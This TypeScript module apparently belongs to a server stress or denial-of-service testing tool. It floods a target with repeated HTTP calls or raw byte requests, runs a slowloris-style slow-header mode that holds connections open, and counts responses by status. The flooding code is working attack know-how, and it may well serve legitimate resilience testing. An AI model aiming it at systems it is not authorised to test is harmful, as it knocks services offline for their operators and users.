/** Sends a flood until its time is over. */

import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type ConnectionTarget, openConnection, readAnswer } from './connection.ts';
import type { Flood } from './floods.ts';

/** What came back: answers by their HTTP status, connections that were closed without one. */
export interface AttackReport {
  readonly answers: Readonly<Record<string, number>>;
}

/** A connection that was refused is tried again after this. */
const REOPEN_MS = 20;
const SLOW_BYTE_MS = 1_000;
/** How long bytes that are no call may go unanswered. */
const RAW_PATIENCE_MS = 500;

type Count = (what: string) => void;

async function sendCalls(
  target: ConnectionTarget,
  bodies: readonly Buffer[],
  number: number,
  isOver: () => boolean,
  count: Count,
) {
  for (let turn = number; !isOver(); ) {
    try {
      const connection = await openConnection(target);
      for (; !isOver(); turn++) count(String((await connection.call(bodies[turn % bodies.length]!)).status));
      connection.close();
    } catch {
      count('closed');
      turn++;
      await sleep(REOPEN_MS);
    }
  }
}

/** Opens a plain socket; resolves when it is open or refused. */
function open({ host, port, localAddress }: ConnectionTarget): Promise<Socket> {
  const socket = connect({ host, port, ...(localAddress === undefined ? {} : { localAddress }) });
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(socket));
    socket.on('error', () => resolve(socket));
  });
}

async function sendRaw(
  target: ConnectionTarget,
  requests: readonly Buffer[],
  number: number,
  isOver: () => boolean,
  count: Count,
) {
  for (let turn = number; !isOver(); turn++) {
    const socket = await open(target);
    const status = await new Promise<string>((resolve) => {
      const timer = setTimeout(() => resolve('silent'), RAW_PATIENCE_MS);
      const settle = (what: string) => {
        clearTimeout(timer);
        resolve(what);
      };
      socket.once('data', (data) => settle(String(readStatus(data))));
      socket.once('close', () => settle('closed'));
      if (socket.destroyed) settle('closed');
      else socket.write(requests[turn % requests.length]!);
    });
    socket.destroy();
    count(status);
  }
}

/** The status of an answer, whether all of it is there or not. */
function readStatus(data: Buffer): number {
  return readAnswer(Buffer.concat([data.subarray(0, 12), Buffer.from('\r\ncontent-length: 0\r\n\r\n')]))?.status ?? 0;
}

async function sendSlowly(target: ConnectionTarget, head: Buffer, isOver: () => boolean, count: Count) {
  while (!isOver()) {
    const socket = await open(target);
    if (!socket.destroyed && head.length > 0) socket.write(head);
    while (!isOver() && !socket.destroyed) {
      await sleep(SLOW_BYTE_MS);
      if (head.length > 0 && !socket.destroyed) socket.write(' ');
    }
    count(socket.destroyed ? 'closed' : 'open at the end');
    socket.destroy();
    await sleep(SLOW_BYTE_MS);
  }
}

/** Sends a flood for so many seconds. */
export async function attack(flood: Flood, target: ConnectionTarget, seconds: number): Promise<AttackReport> {
  const answers: Record<string, number> = {};
  const count: Count = (what) => {
    answers[what] = (answers[what] ?? 0) + 1;
  };
  const endMs = performance.now() + 1_000 * seconds;
  const isOver = (): boolean => performance.now() >= endMs;
  const connections = Array.from({ length: flood.connections }, (_, number) => {
    if (flood.kind === 'calls') return sendCalls(target, flood.bodies, number, isOver, count);
    if (flood.kind === 'raw') return sendRaw(target, flood.requests, number, isOver, count);
    return sendSlowly(target, flood.head, isOver, count);
  });
  await Promise.all(connections);
  return { answers };
}
